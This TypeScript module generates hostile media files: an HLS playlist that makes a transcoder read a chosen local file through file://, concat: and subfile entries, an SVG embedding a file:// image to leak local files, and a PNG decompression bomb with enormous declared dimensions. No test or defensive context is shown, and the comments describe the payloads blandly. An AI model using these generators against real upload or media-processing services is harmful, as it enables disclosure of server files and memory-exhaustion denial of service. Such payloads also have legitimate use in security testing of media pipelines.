import { crc32, deflateSync } from 'node:zlib'

/** A play-list of HTTP live streaming that names a file of this machine. */
export function playlist(file: string): string {
  const items = [
    `file://${file}`,
    `concat:file://${file}`,
    `subfile,,start,0,end,0,,:${file}`,
    file,
  ]
  const lines = items.flatMap((item) => ['#EXTINF:1.0,', item])
  return `#EXTM3U\n#EXT-X-TARGETDURATION:1\n${lines.join('\n')}\n#EXT-X-ENDLIST\n`
}

export const SVG = (file: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="9999" height="9999">` +
  `<image href="file://${file}" width="9999" height="9999"/></svg>`

/** A small PNG of a large picture, all of one grey. */
export function bomb(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc((width + 1) * height), { level: 9 })
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND')])
}

function chunk(type: string, data = Buffer.alloc(0)): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}
